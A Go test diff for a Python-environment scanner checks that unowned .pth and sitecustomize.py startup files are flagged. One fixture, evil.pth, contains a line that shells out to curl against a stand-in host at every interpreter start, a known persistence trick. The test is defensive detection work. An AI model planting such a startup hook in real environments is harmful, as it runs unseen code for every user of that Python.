@@ -259,3 +259,32 @@ func TestReadEnvironmentLegacyEggInfo(t *testing.T) {
 		t.Errorf("distributions (-want +got):\n%s", diff)
 	}
 }
+
+// TestReadEnvironmentUnownedStartupFiles: a .pth file or sitecustomize.py
+// that no RECORD owns runs at every Python start, a classic way to persist
+// code in an environment: each is reported as a package of its own that
+// cannot be checked, never left out. Owned ones and virtualenv's own are
+// not.
+func TestReadEnvironmentUnownedStartupFiles(t *testing.T) {
+	sp := "lib/python3.11/site-packages/"
+	fsys := venv(map[string]*fstest.MapFile{"RECORD": {Data: []byte(goodRecord + "demo.pth,sha256=ypeBEsobvcr6wjGzmiPcTaeG7_gUfE5yuYB3ha_uSLs,1\n")}})
+	fsys[sp+"demo.pth"] = &fstest.MapFile{Data: []byte("a")} // owned by demo_pkg's RECORD
+	fsys[sp+"evil.pth"] = &fstest.MapFile{Data: []byte("import os; os.system('curl evil')\n")}
+	fsys[sp+"sitecustomize.py"] = &fstest.MapFile{Data: []byte("print('hi')\n")}
+	fsys[sp+"_virtualenv.pth"] = &fstest.MapFile{Data: []byte("import _virtualenv\n")}
+	fsys[sp+"notes.txt"] = &fstest.MapFile{Data: []byte("not run\n")}
+	dists, err := pypi.ReadEnvironment(fsys, "v")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, d := range dists {
+		if r := d.Requirement(); r.Unsupported != "" {
+			got = append(got, r.Name+" "+r.File)
+		}
+	}
+	want := []string{"evil.pth v/" + sp + "evil.pth", "sitecustomize.py v/" + sp + "sitecustomize.py"}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("unowned startup files (-want +got):\n%s", diff)
+	}
+}
